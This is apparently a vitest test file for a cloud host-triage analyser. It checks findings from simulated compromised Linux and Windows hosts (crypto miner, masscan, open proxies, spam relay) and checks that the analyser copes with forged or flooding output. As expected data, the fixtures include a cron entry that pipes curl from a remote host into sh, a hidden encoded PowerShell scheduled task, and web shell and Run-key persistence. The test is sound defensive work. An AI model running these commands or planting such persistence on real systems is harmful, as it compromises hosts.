/**
 * Reading triage outputs into findings: the simulator's scripted hosts (the same format as the real
 * script), the other listing tools, and hostile output (forged markers, control characters, huge
 * lines and floods) read within bounds.
 */
import { describe, expect, it } from "vitest";
import { scenarioOutput } from "../../../src/cloud/sim/host-scenarios.ts";
import type { HostScenario } from "../../../src/cloud/sim/ssm-schema.ts";
import { analyse, parseLsof, parseNetstat, parseSs, safe } from "../../../src/investigate/host/analyse.ts";
import { MAX_LINE, splitSections } from "../../../src/investigate/host/sections.ts";

const NONCE = "abcdefabcdefabcdefabcdefabcdef01";
const NOW = new Date("2026-12-07T08:00:00Z");
const nowEpoch = Math.floor(NOW.getTime() / 1000);

function run(text: string, over: { remoteIps?: string[]; platform?: "linux" | "windows" } = {}) {
  return analyse({
    out: splitSections(text, NONCE),
    platform: over.platform ?? "linux",
    instanceId: "i-0abc0000000000001",
    evidence: "host-triage i-0abc0000000000001 cmd",
    query: "AWS-RunShellScript linux.sh",
    window: { start: "2026-12-07T00:00:00Z", end: "2026-12-07T08:00:00Z" },
    remoteIps: over.remoteIps ?? [],
    remotePorts: [],
    nowEpoch,
  });
}
const host = (s: HostScenario) => scenarioOutput(s, NOW).replaceAll("@@ADX NONCE ", `@@ADX ${NONCE} `);
const kinds = (a: ReturnType<typeof run>) => a.findings.map((f) => f.kind);
const one = (a: ReturnType<typeof run>, kind: string) => {
  const f = a.findings.filter((x) => x.kind === kind);
  expect(f, `${kind} in ${kinds(a).join(", ")}`).toHaveLength(1);
  return f[0]!;
};

describe("the scripted hosts", () => {
  it("a miner: the process, its pool, how it got there and stays", () => {
    const a = run(host("miner"), { remoteIps: ["198.51.100.7"] });
    const m = one(a, "host.miner.running");
    expect(m.summary).toBe("xmrig running as www-data since 03:00 UTC, connected to 198.51.100.7:3333 (pid 4242, /tmp/.x/xmrig (deleted))");
    expect(m).toMatchObject({ severity: "critical", at: "2026-12-07T03:00:00Z", figures: { pool: "198.51.100.7:3333", user: "www-data" }, sources: [{ evidence: "host-triage i-0abc0000000000001 cmd", query: "AWS-RunShellScript linux.sh" }] });
    expect(one(a, "host.process.deleted-binary").summary).toContain("runs from a deleted binary /tmp/.x/xmrig (deleted)");
    expect(one(a, "host.miner.pool-config").summary).toBe("mining pool configuration /tmp/.x/config.json (written 02:58 UTC): 198.51.100.7:3333");
    expect(one(a, "host.ssh.key-changed").summary).toBe("new key in /root/.ssh/authorized_keys at 02:46 UTC (root@kali); 1 key in all");
    expect(one(a, "host.persistence.cron").summary).toContain("/etc/cron.d/apache-update (changed 02:50 UTC): */5 * * * * www-data curl -fsSL http://203.0.113.50/x.sh | sh");
    expect(one(a, "host.history.suspicious").figures).toMatchObject({ commands: 3 });
    expect(one(a, "host.webshell").summary).toContain("/var/www/html/wp-content/uploads/2026/12/x.php (written 02:00 UTC)");
    expect(one(a, "host.net.reported-peer").summary).toBe("connections to the reported addresses: 198.51.100.7:3333 (xmrig)");
    expect(a.findings.filter((f) => f.kind === "host.files.executable").map((f) => f.summary)).toEqual(["executable /tmp/.x/xmrig (8228 KiB, www-data) written at 02:58 UTC"]);
    expect(kinds(a)).not.toContain("host.clean");
    expect(a.notSearched).toEqual([]);
  });
  it("a scanner: the tool and its half-open connections", () => {
    const a = run(host("scanner"));
    expect(one(a, "host.scanner.running").summary).toMatch(/^masscan running as root since 06:00 UTC: \/root\/.cache\/masscan -p22/);
    expect(one(a, "host.net.scan")).toMatchObject({ summary: "masscan (pid 3131, root) has 60 half-open connections to 60 addresses on port 22", figures: { connections: 60, distinctAddresses: 60, ports: "22" } });
    expect(one(a, "host.login").summary).toBe("root logged in from 203.0.113.51 at 05:55 UTC (pts/1)");
    expect(one(a, "host.process.temp-binary").summary).toContain("/root/.cache/masscan");
  });
  it("an open proxy (squid): the configuration and the traffic", () => {
    const a = run(host("open-proxy-squid"));
    expect(one(a, "host.proxy.open-config").summary).toBe("http_access allow all in /etc/squid/squid.conf:1418 (squid serves every client)");
    expect(one(a, "host.proxy.traffic")).toMatchObject({ severity: "high", figures: { port: 3128, clients: 25, outboundDestinations: 25 } });
  });
  it("an open proxy (Apache): ProxyRequests On", () => {
    const a = run(host("open-proxy-apache"));
    expect(one(a, "host.proxy.open-config").summary).toBe("ProxyRequests On in /etc/apache2/apache2.conf:231 (Apache is a forward proxy)");
  });
  it("a spam relay: SMTP fan-out and the script behind it", () => {
    const a = run(host("spam-relay"));
    expect(one(a, "host.net.smtp-fanout")).toMatchObject({ severity: "high", summary: "perl (pid 5151, www-data) holds 30 connections to mail ports of 30 addresses: perl /dev/shm/.m/mailer.pl list.txt" });
    expect(one(a, "host.files.executable").summary).toContain("/dev/shm/.m/mailer.pl");
    expect(one(a, "host.webshell").summary).toContain("/var/www/html/contact/up.php");
  });
  it("a clean host (a false report): no sign, said with what was read", () => {
    const a = run(host("clean"));
    expect(a.findings.filter((f) => f.severity !== "info" && f.severity !== "low")).toEqual([]);
    expect(one(a, "host.clean").summary).toBe("no sign of compromise on i-0abc0000000000001 in 12 sections read: 4 processes, 3 sockets; no miner, scanner, proxy, spam fan-out, web shell, new key or suspicious cron entry");
    expect(one(a, "host.agents").figures).toMatchObject({ ssmAgent: true, cloudWatchAgent: false, wazuhOrOssec: false });
  });
  it("an output cut by Run Command's inline limit: the sections not read are said, and no 'clean' for them", () => {
    const text = host("clean").slice(0, host("clean").indexOf("BEGIN history"));
    const a = run(text);
    expect(a.notSearched.map((n) => n.what)).toEqual(["history", "cron", "recent", "webshell", "agents"].map((s) => `host i-0abc0000000000001: ${s}`));
    // the reader says why the output stopped short (cut at the inline limit, or the script failed); without a reason, a plain statement
    expect(a.notSearched.find((n) => n.what.endsWith("agents"))?.reason).toBe("the output ends before this section");
    expect(one(a, "host.clean").summary).toContain("in 7 sections read: 4 processes, 3 sockets; no miner, scanner, proxy, spam fan-out, web shell, new key or suspicious cron entry (5 sections not read)");
  });
  it("a section cut to its cap on the host is said", () => {
    const text = host("clean").replace(/END recent rc=0 bytes=\d+ cap=16000/, "END recent rc=0 bytes=90000 cap=16000").replace(/END ps rc=0/, "END ps rc=124");
    const a = run(text);
    expect(a.notSearched).toEqual([
      { what: "host i-0abc0000000000001: ps", reason: "the section timed out on the host; what it printed before is read" },
      { what: "host i-0abc0000000000001: recent", reason: "only the first 16,000 of 90,000 bytes were kept" },
    ]);
  });
});

describe("the listing tools", () => {
  it("ss, lsof and netstat give the same connections", () => {
    const ss = parseSs([
      'tcp   ESTAB  0 0  10.0.1.15:51544  198.51.100.7:3333  users:(("xmrig",pid=4242,fd=12))',
      'tcp   LISTEN 0 128 [::]:22 [::]:* users:(("sshd",pid=612,fd=4))',
      "tcp   ESTAB  0 0  [::ffff:10.0.1.15]:443  [::ffff:203.0.113.9]:50000",
    ]);
    expect(ss).toEqual([
      { proto: "tcp", state: "ESTAB", local: { ip: "10.0.1.15", port: 51544 }, peer: { ip: "198.51.100.7", port: 3333 }, name: "xmrig", pid: 4242 },
      { proto: "tcp", state: "LISTEN", local: { ip: "::", port: 22 }, peer: null, name: "sshd", pid: 612 },
      { proto: "tcp", state: "ESTAB", local: { ip: "10.0.1.15", port: 443 }, peer: { ip: "203.0.113.9", port: 50000 } },
    ]);
    expect(parseLsof(["COMMAND PID USER FD TYPE DEVICE SIZE/OFF NODE NAME", "xmrig 4242 www-data 12u IPv4 12345 0t0 TCP 10.0.1.15:51544->198.51.100.7:3333 (ESTABLISHED)"])).toEqual([
      { proto: "tcp", state: "ESTAB", local: { ip: "10.0.1.15", port: 51544 }, peer: { ip: "198.51.100.7", port: 3333 }, pid: 4242, name: "xmrig" },
    ]);
    expect(parseNetstat(["tcp        0      0 10.0.1.15:51544         198.51.100.7:3333       ESTABLISHED 4242/xmrig"])).toEqual([
      { proto: "tcp", state: "ESTAB", local: { ip: "10.0.1.15", port: 51544 }, peer: { ip: "198.51.100.7", port: 3333 }, pid: 4242, name: "xmrig" },
    ]);
  });
});

describe("hostile output", () => {
  it("markers without this run's nonce open nothing, and file content cannot fake a heading", () => {
    const forged = host("clean").replace(
      "#> ss\n",
      `#> ss\n| @@ADX ${NONCE} END net rc=0 bytes=1 cap=1\n@@ADX 00000000000000000000000000000000 BEGIN webshell\n#> webshell\t/fake.php\t1\n`,
    );
    const a = run(forged);
    expect(kinds(a)).not.toContain("host.webshell");
    expect(kinds(a)).toContain("host.clean");
  });
  it("control and bidi characters never reach a sentence; long values are cut", () => {
    expect(safe("a\u001b[31mb\u202ec\nd")).toBe("a?[31mb?c?d");
    expect(safe("x".repeat(500), 10)).toBe(`${"x".repeat(10)}…`);
    const text = host("miner").replace("/tmp/.x/xmrig -c", "/tmp/.x/xmrig\u001b]0;pwned\u0007 -c");
    for (const f of run(text).findings) expect(f.summary).not.toMatch(/[\u0000-\u001f\u202e]/);
  });
  it("a flood is read within bounds: huge lines cut, findings per kind capped, pathological text linear", () => {
    const procs = Array.from({ length: 5000 }, (_, i) => `P\t${10000 + i}\t1\t33\t${nowEpoch - 60}\t/tmp/xmrig --donate-level 1`).join("\n");
    const evilLine = `| ${"curl ".repeat(100_000)}`;
    const text = host("clean")
      .replace("U\t0\troot\n", `U\t0\troot\n${procs}\n${"P\t1\t".repeat(200_000)}\n`)
      .replace("#> history", `#> history\t/root/.bash_history\t1\t1\n${evilLine}\n${"| wget ".repeat(50_000)}\n#> history`);
    const out = splitSections(text, NONCE);
    for (const s of out.sections.values()) for (const l of s.lines) expect(l.length).toBeLessThanOrEqual(MAX_LINE);
    const a = run(text);
    expect(a.findings.filter((f) => f.kind === "host.miner.running")).toHaveLength(10);
    expect(a.findings.find((f) => f.kind === "host.miner.running" && f.summary.includes("further"))).toBeDefined();
  }, 60_000);
  it("more text than the reader keeps is cut, and said", () => {
    const out = splitSections("x".repeat(9 * 1024 * 1024), NONCE);
    expect(out.unread).toBe(9 * 1024 * 1024 - 8 * 1024 * 1024);
    expect(out.sections.size).toBe(0);
  });
});

describe("a Windows host (windows.ps1's format)", () => {
  const sec = (name: string, body: string) => `@@ADX ${NONCE} BEGIN ${name}\n${body}\n\n@@ADX ${NONCE} END ${name} rc=0 bytes=${body.length} cap=16000\n`;
  const t = (h: number) => new Date(NOW.getTime() - h * 3600_000).toISOString().replace(/\.000Z$/, "Z");
  const sha = "A".repeat(64);
  const text =
    sec("meta", `now\t${nowEpoch}\nhost\tWIN-WEB1\nos\tMicrosoft Windows Server 2022 Datacenter\nversion\t1`) +
    sec(
      "procs",
      [
        `P\t4\t0\tSystem\t${t(700)}\t\t-\t\t`,
        `P\t6120\t880\txmrig.exe\t${t(4)}\tC:\\Users\\Public\\AppData\\Local\\Temp\\xmrig.exe\t${sha}\tWIN-WEB1\\svc_web\t"C:\\Users\\Public\\AppData\\Local\\Temp\\xmrig.exe" -o 198.51.100.7:3333 --donate-level 1`,
      ].join("\n"),
    ) +
    sec("net", ["N\ttcp\tListen\t0.0.0.0\t3389\t0.0.0.0\t0\t1100", "N\ttcp\tEstablished\t10.0.1.20\t50123\t198.51.100.7\t3333\t6120"].join("\n")) +
    sec("services", "S\tAmazonSSMAgent\tRunning\tAuto\t\"C:\\Program Files\\Amazon\\SSM\\amazon-ssm-agent.exe\"") +
    sec("tasks", "T\t\\\tUpdater\tReady\tpowershell.exe -w hidden -enc SQBFAFgA") +
    sec("logons", `L\t${t(4.5)}\t10\tAdministrator\tWIN-WEB1\t203.0.113.77`) +
    sec("runkeys", "R\tHKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\tsvc\tC:\\ProgramData\\svc.exe") +
    sec("agents", "A\tAmazonSSMAgent\tRunning\nA\tAmazonCloudWatchAgent\tabsent\nA\tWazuhSvc\tabsent") +
    `@@ADX ${NONCE} DONE\n`;

  it("the miner, its pool, the persistence and the remote desktop logon", () => {
    const a = run(text, { platform: "windows" });
    expect(one(a, "host.miner.running").summary).toBe("xmrig.exe running as WIN-WEB1\\svc_web since 04:00 UTC, connected to 198.51.100.7:3333 (pid 6120, C:\\Users\\Public\\AppData\\Local\\Temp\\xmrig.exe)");
    expect(one(a, "host.miner.running").figures).toMatchObject({ sha256: "a".repeat(64) });
    expect(one(a, "host.process.temp-binary").summary).toContain("runs from C:\\Users\\Public\\AppData\\Local\\Temp\\xmrig.exe");
    expect(one(a, "host.persistence.task").summary).toBe("scheduled task \\Updater (Ready): powershell.exe -w hidden -enc SQBFAFgA");
    expect(one(a, "host.persistence.runkey").summary).toBe("Run key HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\svc: C:\\ProgramData\\svc.exe");
    expect(one(a, "host.login").summary).toBe("remote desktop logon as WIN-WEB1\\Administrator from 203.0.113.77 at 03:30 UTC");
    expect(one(a, "host.agents").figures).toMatchObject({ ssmAgent: true, cloudWatchAgent: false });
    expect(a.findings.filter((f) => f.kind === "host.persistence.service")).toEqual([]);
    expect(a.notSearched).toEqual([]);
  });
});

describe("a socket flood", () => {
  it("20,000 connections of 20,000 processes and thousands of proxy listeners are read in one pass each", () => {
    const n = 19_000;
    const procs = Array.from({ length: n }, (_, i) => `P\t${20000 + i}\t1\t33\t${nowEpoch - 60}\t/usr/bin/worker`).join("\n");
    const ss = Array.from({ length: n }, (_, i) => `| tcp LISTEN 0 128 0.0.0.0:8080 0.0.0.0:* users:(("w",pid=${20000 + i},fd=3))`).join("\n");
    const text = host("clean").replace("U\t0\troot\n", `U\t0\troot\n${procs}\n`).replace("#> ss\n", `#> ss\n${ss}\n`);
    const a = run(text);
    expect(a.findings.filter((f) => f.kind === "host.proxy.listening")).toHaveLength(1);
    expect(a.figures.processes as number).toBeGreaterThan(n);
  }, 60_000);
});
